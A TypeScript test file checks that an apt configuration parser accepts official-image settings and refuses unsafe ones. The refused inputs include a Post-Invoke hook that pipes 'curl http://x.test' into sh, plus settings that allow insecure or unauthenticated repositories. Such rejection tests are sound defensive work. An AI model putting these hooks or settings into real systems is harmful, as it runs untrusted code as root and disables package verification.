import { describe, expect, it } from "vitest";
import { aptSettings } from "./apt-settings.ts";

const read = (text: string) => aptSettings([{ path: "etc/apt/apt.conf.d/01", text }]);

describe("aptSettings", () => {
  it("takes the files that official images have", () => {
    const clean =
      'DPkg::Post-Invoke { "rm -f /var/cache/apt/archives/*.deb /var/cache/apt/archives/partial/*.deb /var/cache/apt/*.bin || true"; };\nDir::Cache::pkgcache "";\n';
    const autoremove = 'APT\n{\n  NeverAutoRemove  // comment\n  {\n\t"^firmware-linux.*";\n  };\n};\n';
    expect(
      read(`${clean}Acquire::GzipIndexes "true"; Apt::AutoRemove::SuggestsImportant "false";\n${autoremove}`),
    ).toEqual({
      checkValidUntil: true,
    });
    for (const no of ["false", "no", "0", "without", "off", "Disable"])
      expect(read(`Acquire::Check-Valid-Until "${no}"; APT::Install-Suggests "${no}";`)).toEqual({
        checkValidUntil: false,
      });
  });

  it.each([
    'DPkg::Post-Invoke { "curl http://x.test | sh"; };',
    'APT::Default-Release "testing";',
    'Acquire::AllowInsecureRepositories "true";',
    'APT { Get { AllowUnauthenticated "1"; }; };',
    'APT::Install-Suggests "true";',
    'Dir::Cache::pkgcache ""',
    'APT::Get::Assume-Yes "true"; }',
    'APT { Get { Assume-Yes "true"; };',
    'APT { Get { Assume-Yes "true" }; };',
  ])("refuses %s", (text) => {
    expect(() => read(text)).toThrow(expect.objectContaining({ code: "E_UNSUPPORTED" }));
  });
});
